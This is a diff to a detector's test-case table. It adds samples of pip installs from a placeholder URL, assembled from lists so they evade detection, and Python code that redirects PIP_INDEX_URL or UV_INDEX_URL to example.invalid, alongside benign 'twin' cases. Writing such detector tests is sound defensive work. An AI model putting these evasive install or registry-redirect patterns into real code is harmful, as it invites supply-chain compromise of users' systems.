@@ -75,6 +75,25 @@ CASES: Final = (
     Case("C3", "twin", None, "function f() { require('child_process').execSync('npm install demo') }\n", "demo.js"),
     Case("C3", "hit", "medium", f"pip install {_URL}\n", "x.sh"),
     Case("C3", "twin", None, "pip install demo\nnpm install\n", "x.sh"),
+    # Commands that are put together out of lists.
+    Case(
+        "C3",
+        "evasion",
+        "high",
+        f"{_S}c = [sys.executable, '-m', 'pip']\nc += ['install', '{_URL}']\nsubprocess.run(c)\n",
+    ),
+    Case(
+        "C3", "evasion", "high", f"{_S}c = [sys.executable, '-m', 'pip']\nsubprocess.run([*c, 'install', '{_URL}'])\n"
+    ),
+    Case("C3", "evasion", "medium", f"{_F}c = ['-m', 'pip']\n    subprocess.run([x] + c + ['install', '{_URL}'])\n"),
+    Case("C3", "evasion", "high", f"{_S}c = ['pip', 'install']\nsubprocess.run([*c, '{_URL}'])\n"),
+    Case(
+        "C3", "twin", None, f"{_F}subprocess.run([*x, 'install', '{_URL}'])\n    subprocess.run([x, *[]] + ['pip'])\n"
+    ),
+    Case("C3", "twin", None, f"{_F}subprocess.run([x] + ['y'] * 9 + {['z'] * 60} + ['pip', 'install', '{_URL}'])\n"),
+    Case("C13", "hit", "medium", "import os\nos.environ['PIP_INDEX_URL'] = 'https://example.invalid'\n"),
+    Case("C13", "evasion", "medium", "from os import putenv as p\np('UV_INDEX' + '_URL', 'https://example.invalid')\n"),
+    Case("C13", "twin", None, "import os\nos.environ['PIP_INDEX_URL'] = u\nos.environ['X'] = 'https://x.invalid'\n"),
     # From where installers take what they are told to.
     Case("C13", "hit", "medium", f"{_F}subprocess.run(['npm', 'config', 'set', 'registry', x])\n"),
     Case("C13", "hit", "medium", "import os\nos.system('pip config --user set global.index-url https://x.invalid')\n"),
